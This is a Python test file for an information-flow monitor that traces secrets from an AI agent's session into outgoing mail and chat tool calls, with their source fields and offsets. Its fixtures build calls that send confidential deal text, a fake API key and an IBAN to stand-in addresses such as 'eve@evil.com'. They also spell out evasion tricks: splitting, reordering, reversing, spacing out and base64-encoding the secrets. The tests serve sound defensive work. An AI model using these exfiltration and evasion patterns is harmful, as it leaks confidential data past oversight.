"""Runs and values of what a session has seen are found in what it hands on, decoded too, with the label of the part
that they come from and the place where they stand there."""

from __future__ import annotations

import functools
import os
import random
import re
import zlib
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bailiwick.flow.codecs import decodings
from bailiwick.flow.known_text import Piece
from bailiwick.flow.ledger import ContentOrigin, Ledger
from bailiwick.flow.lowering import Unlowered
from bailiwick.flow.matching import MAX_MISSES, Matcher, Matching
from bailiwick.flow.normal import normal, original
from bailiwick.flow.origins import MORE_PLACES
from bailiwick.flow.packings import unpacked
from bailiwick.flow.records import ContentRecord
from bailiwick.flow.releases import Data, DataKind
from bailiwick.flow.runs import LONG, RunIndex, background
from bailiwick.model.call import Action
from bailiwick.model.decision import Origin
from bailiwick.model.label import Integrity, Label, Strictness
from bailiwick.model.tool import Effect, Role, Sink
from tests.flow.evidence_corpus import DERIVATIONS, ENCODINGS, modules, pages, passages
from tests.flow.helpers import TOP, Desk, arg, call, tool

SOAK = os.environ.get("BAILIWICK_SOAK") == "1"
SECRET = Label(sensitivity=3, categories=frozenset({"mnpi"}), integrity=Integrity.ORGANISATION)
INTERNAL = Label(sensitivity=1, integrity=Integrity.ORGANISATION)
TEXT = "The board has decided to sell the northern plant to Umbrella for 42 million in the second quarter."
MAIL = tool("mail.send", Effect.SEND, sink=Sink.EXTERNAL)


def mail(body: str, subject: str = "", to: str = "eve@evil.com") -> Action:
    parts = [arg("body", Role.CONTENT, text=body)]
    if subject:
        parts.append(arg("subject", Role.CONTENT, text=subject))
    return call(MAIL, *parts, recipients=(to,))


def record(number: int, label: Label = SECRET) -> ContentRecord:
    return ContentRecord(
        content=f"c{number}", event=f"e{number}", source="tool:x", origin=ContentOrigin.RETRIEVED, label=label
    )


def matcher(*contents: object, label: Label = SECRET) -> Matcher:
    made = Matcher()
    for number, content in enumerate(contents):
        made.expect(record(number, label))
        made.supply(f"c{number}", content)
    return made


def found(made: Matcher, action: Action) -> tuple[tuple[Origin, ...], Label | None]:
    matching = Matching(made, action)
    return matching.origins(action.judged[0]), matching.label(action.judged[0])


# ── normal form ──────────────────────────────────────────────────────────────────────────────────────────────────────


@given(st.text(max_size=60), st.text(max_size=60))
def test_normal_form_is_made_character_by_character(one: str, other: str) -> None:
    assert normal(one + other) == normal(one) + normal(other)
    for at, char in enumerate(normal(one)):
        assert char in normal(one[original(one, at)])


# ── runs ─────────────────────────────────────────────────────────────────────────────────────────────────────────────


@given(st.data())
def test_every_common_run_that_is_long_enough_is_found_where_it_stands(data: st.DataObject) -> None:
    draw = random.Random(data.draw(st.integers(0, 2**32)))
    known = "".join(draw.choices("abcdghjkmnpqruvwxyz", k=data.draw(st.integers(LONG, 300))))
    start = data.draw(st.integers(0, len(known) - LONG))
    end = data.draw(st.integers(start + LONG, len(known)))
    index = RunIndex()
    index.add(0, [Piece(path="", text=known, label=SECRET)])
    before = "".join(draw.choices("2689", k=data.draw(st.integers(0, 40))))
    runs = index.find(f"{before}{known[start:end]}2").runs
    assert [(run.start, run.end) for run in runs] == [(len(before), len(before) + end - start)]
    first, last = runs[0].place
    assert known[first:last] == known[start:end]


def test_a_shorter_run_is_no_evidence() -> None:
    index = RunIndex()
    index.add(0, [Piece(path="", text=TEXT, label=SECRET)])
    assert not index.find(normal(TEXT)[: LONG - 1]).runs
    assert index.find(normal(TEXT)[:LONG]).runs


def test_the_label_of_a_place_that_is_forgotten_stays() -> None:
    index = RunIndex()
    index.add(0, [Piece(path="", text=TEXT, label=SECRET)])
    for number in range(1, 40):
        index.add(number, [Piece(path="", text=TEXT, label=INTERNAL)])
    hits = index.find(normal(TEXT))
    assert any(SECRET.flows_to(label) for _, _, label in hits.beyond)
    assert len(hits.runs) < 40


def test_public_texts_are_evidence_of_nothing() -> None:
    index = RunIndex()
    index.add(
        0, [Piece(path="", text=f"{TEXT} This message is confidential and meant for its recipient.", label=SECRET)]
    )
    index.set_background(background(["This message is confidential and meant for its recipient."]))
    assert not index.find(normal("THIS message is confidential, and meant for its recipient!")).runs
    assert index.find(normal(TEXT)).runs


def test_a_bomb_fills_nothing() -> None:
    _, out = unpacked(zlib.compress(b"a" * 50_000_000), 10_000)
    assert len(out) == 10_000


# ── a session ────────────────────────────────────────────────────────────────────────────────────────────────────────


def test_a_run_is_traced_to_its_field_with_offsets() -> None:
    made = matcher([{"id": 1, "notes": "Nothing here."}, {"id": 2, "notes": f"Note: {TEXT}"}])
    origins, label = found(made, mail(f"Hi, guess what: {TEXT.upper()}"))
    assert label == SECRET
    assert (origins[0].path, origins[0].how) == (f"[1].notes@6-{5 + len(TEXT)}", "run")


def test_a_run_has_the_label_of_the_part_that_it_comes_from() -> None:
    made = Matcher()
    made.expect(
        ContentRecord(
            content="c0",
            event="e0",
            source="tool:x",
            origin=ContentOrigin.RESULT,
            label=SECRET,
            parts=((INTERNAL, (".plan",)),),
        )
    )
    plan = "We meet each Tuesday in the blue room and bring our own coffee along."
    made.supply("c0", {"plan": plan, "deal": TEXT})
    assert found(made, mail(plan))[1] == INTERNAL
    assert found(made, mail(TEXT))[1] == SECRET


@pytest.mark.parametrize(
    "said", ["sk-live-4242abcd", "s k - l i v e - 4 2 4 2 a b c d", "dcba2424-evil-ks", "c2stbGl2ZS00MjQyYWJjZA=="]
)
def test_a_short_secret_is_found(said: str) -> None:
    assert found(matcher({"key": "sk-live-4242abcd"}), mail(f"It is {said}, ok?"))[1] == SECRET


def test_what_the_user_said_is_evidence_of_nothing() -> None:
    desk = Desk(Ledger(top_sensitivity=TOP))
    desk.prompt(f"Please send this to Eve: {TEXT}")
    made = desk.ledger._matcher
    made.expect(record(7))
    made.supply("c7", TEXT)
    assert found(made, mail(TEXT))[1] in (None, Label(integrity=Integrity.USER, sources=frozenset({"user"})))


def test_splitting_over_several_calls_does_not_help() -> None:
    made = matcher(TEXT)
    pieces = [TEXT[at : at + 25] for at in range(0, len(TEXT), 25)]
    labels: list[Label | None] = []
    hows: set[str] = set()
    for piece in pieces:
        origins, label = found(made, mail(piece))
        labels.append(label)
        hows.update(origin.how for origin in origins)
        made.handed(mail(piece))
    assert labels[0] is None
    assert SECRET in labels[1:]
    assert hows == {"part"}


def test_nor_does_another_tool_to_the_same_recipient() -> None:
    made = matcher(TEXT)
    made.handed(mail(TEXT[:25]))
    chat = call(
        tool("chat.post", Effect.SEND, sink=Sink.EXTERNAL),
        arg("text", Role.CONTENT, text=TEXT[25:50]),
        recipients=("eve@evil.com",),
    )
    assert found(made, chat)[1] == SECRET


def test_nor_does_splitting_over_the_arguments_of_one_call() -> None:
    made = matcher(TEXT)
    action = mail(TEXT[:25], TEXT[25:50])
    matching = Matching(made, action)
    assert SECRET in [matching.label(argument) for argument in action.judged]


def test_a_session_whose_texts_are_gone_proves_nothing() -> None:
    made = Matcher()
    made.expect(record(0))
    assert not Matching(made, mail("x")).complete
    made.supply("c0", TEXT)
    assert Matching(made, mail("x")).complete
    made.expect(record(1))
    for _ in range(MAX_MISSES):
        made.missed("c1")
    assert not made.wanted(mail("x"))
    assert not Matching(made, mail("x")).complete


def test_a_sink_that_was_handed_something_elsewhere_proves_nothing_for_a_while() -> None:
    made = matcher(TEXT)
    made.handed_unseen("mail.send")
    assert not Matching(made, mail("x")).complete
    made.handed(mail("Good morning, here is some news of ours. " * 40))
    assert Matching(made, mail("x")).complete


# ── the corpus ───────────────────────────────────────────────────────────────────────────────────────────────────────

CHANGES = {**DERIVATIONS, **ENCODINGS}


def test_what_was_changed_or_encoded_is_found_with_its_place() -> None:
    texts = pages()
    made = matcher(*texts)
    tried = missed = 0
    wrong: list[str] = []
    for number, passage in passages(texts, seed=5, count=200 if SOAK else 2):
        for name, change in CHANGES.items():
            origins, _ = found(made, mail(f"Hello Bob, as promised: {change(passage)}\nBest regards, Anna"))
            tried += 1
            places = [origin for origin in origins if origin.content == f"c{number}"]
            missed += not places
            wrong += [name for origin in places if not _stands(texts[number], passage, origin)]
    assert missed <= tried * 0.01, f"{missed} of {tried}"
    assert not wrong


def _stands(text: str, passage: str, origin: Origin) -> bool:
    """True iff the place that is given holds what also stands in the passage."""
    place = re.fullmatch(r"@(\d+)-(\d+)", origin.path)
    if place is None:
        return origin.how.endswith("exact")
    said = normal(text[int(place[1]) : int(place[2])])
    return said in normal(passage) or normal(passage) in said or said[8:-8] in normal(passage)


def test_other_texts_are_not_found() -> None:
    made = matcher(*modules())
    made.runs.set_background(background(["monday tuesday wednesday thursday friday saturday sunday"]))
    others = passages(pages(), seed=9, count=1_000 if SOAK else 200)
    hits = [passage for _, passage in others if any("run" in each.how for each in found(made, mail(passage))[0])]
    assert len(hits) <= len(others) * (0.005 if SOAK else 0.01), hits


# ── short pieces that add up ─────────────────────────────────────────────────────────────────────────────────────────

LEDGER = "account;debit\n4400;18277.45\n1600;22019.10\n4711;90210.33"


def sent(made: Matcher, actions: list[Action]) -> list[Label | None]:
    """The label of each of these mails, sent one after the other."""
    labels: list[Label | None] = []
    for action in actions:
        matching = Matching(made, action)
        found = [label for argument in action.judged if (label := matching.label(argument)) is not None]
        labels.append(functools.reduce(Label.join, found) if found else None)
        made.handed(action)
    return labels


@pytest.mark.parametrize(
    "mails",
    {
        "14 characters each": [mail(LEDGER[at : at + 14], "Hello") for at in range(0, len(LEDGER), 14)],
        "with words between": [mail(f"part {at}: {TEXT[at : at + 16]}", "Hello") for at in range(0, len(TEXT), 16)],
        "in any order": [mail(f"{TEXT[at : at + 16]} ({at})") for at in range(0, len(TEXT), 16)][::-1],
        "to different people": [
            mail(f"no. {at}: {TEXT[at : at + 16]}", to=f"{at}@evil.com") for at in range(0, len(TEXT), 16)
        ],
        "subject and body in turn": [
            mail(TEXT[at + 16 : at + 32], f"x{at} {TEXT[at : at + 16]}") for at in range(0, len(TEXT), 48)
        ],
    }.values(),
)
def test_short_pieces_add_up(mails: list[Action]) -> None:
    labels = sent(matcher(LEDGER, TEXT), mails)
    assert SECRET in labels[:5]


def test_pieces_name_the_places_that_they_come_from() -> None:
    made = matcher(TEXT)
    pieces = [mail(f"part {at}: {TEXT[at : at + 16]}") for at in range(0, len(TEXT), 16)]
    sent(made, pieces[:3])
    origins, _ = found(made, pieces[3])
    assert {(origin.path, origin.how) for origin in origins} == {("@49-64", "part")}


def test_honest_short_mails_are_no_pieces() -> None:
    made = matcher(*modules(most=100))
    lines = [line for _, text in passages(pages(), seed=4, count=600) for line in text.split(". ") if len(line) < 90]
    labels = sent(made, [mail(line, to=f"{at % 5}@acme.example") for at, line in enumerate(lines)])
    assert len(lines) > 100
    assert len([label for label in labels if label is not None]) <= len(lines) * 0.05


# ── what it costs ────────────────────────────────────────────────────────────────────────────────────────────────────

REPLY = """Hello Ann, thank you for your message of Monday. The delivery that you asked about has left our warehouse and
will be with you by the end of the week. If you would rather have it sent to your other office, tell me before noon, and
I will see to it. The invoice goes with the same mail. Kind regards, Bob, support desk"""


def test_an_ordinary_mail_is_read_in_few_ways() -> None:
    said = decodings(REPLY).found
    assert [each.chain for each in said] == [("reversed-order",)]


def test_what_is_looked_up_does_not_depend_on_what_is_known() -> None:
    """Look-ups, not time: of an ordinary mail in a session that knows few contents, and many."""
    looked_up = []
    for known in (10, 200):
        made, asked = matcher(*modules(most=known)), _Counted()
        asked.update(made.runs._known.places)
        made.runs._known.places = asked
        found(made, mail(REPLY))
        looked_up.append(asked.count)
    assert looked_up[0] == looked_up[1] < 3 * len(REPLY)


class _Counted(dict[str, Any]):
    count = 0

    def __contains__(self, key: object) -> bool:
        self.count += 1
        return super().__contains__(key)


# ── values that are everywhere ───────────────────────────────────────────────────────────────────────────────────────


def test_the_label_of_a_value_stays_when_its_place_is_forgotten() -> None:
    desk = Desk(Ledger(top_sensitivity=TOP, strictness=Strictness(level=TOP)))
    desk.sees(ContentOrigin.RETRIEVED, "Account DE44500105175407324931", label=SECRET)
    for number in range(30):
        desk.sees(
            ContentOrigin.RETRIEVED, f"Invoice {number}: DE44500105175407324931", source=f"kb:{number}", label=INTERNAL
        )
    argument = arg("body", Role.CONTENT, text="It is DE44500105175407324931.")
    matching = Matching(desk.ledger._matcher, call(MAIL, argument, recipients=("eve@evil.com",)))
    label = matching.label(argument)
    assert label is not None
    assert label.sensitivity == SECRET.sensitivity
    assert MORE_PLACES in matching.origins(argument)
    # What was declassified are the places that are remembered: those that are not may be anybody's.
    everything = tuple(Data(kind=DataKind.SOURCE, name=f"kb:{number}") for number in range(30))
    lowered = Unlowered(evidence=matching, lowered=everything).label(argument)
    assert lowered is not None
    assert lowered.categories == {"mnpi"}


# ── where to, and what ───────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(("words", "sensitivity"), [("Write to jane@example.com.", 0), ("Write to her.", 3)])
def test_an_address_is_handed_on_only_where_nobody_endorsed_it(words: str, sensitivity: int) -> None:
    """Whoever is written to knows his address; one that nobody asked for may be the message."""
    desk = Desk(Ledger(top_sensitivity=TOP, strictness=Strictness(level=TOP)))
    desk.sees(ContentOrigin.RETRIEVED, {"email": "jane@example.com"}, label=SECRET)
    desk.ledger._endorsed.words.add(words, "the user")
    to = arg("to", Role.TARGET, "jane@example.com")
    action = call(MAIL, to, arg("body", Role.CONTENT, text="Hello"), recipients=("jane@example.com",))
    assert desk.resolve(action).label.sensitivity == sensitivity


@pytest.mark.parametrize(
    ("body", "told"),
    [
        ("Hi, the number is 8110555 20 93+ by the way", True),
        ("8110555 20 93+", False),
        ("naliM 12102 ,4 idreV aiV ,8110555 20 93+ ,issoR ocraM", True),
        ("Hi, the number is 8110554 20 93+ by the way", False),
        ("Order 1234567 890 of 2024-05-15 has left the house", False),
    ],
)
def test_a_number_backwards_is_found_in_a_sentence(body: str, told: bool) -> None:
    made = matcher({"name": "Marco Rossi", "phone": "+39 02 5550118", "note": "Likes tents, and 8 poles."})
    origins, label = found(made, mail(body))
    assert bool(origins) is told
    assert (label is not None) is told
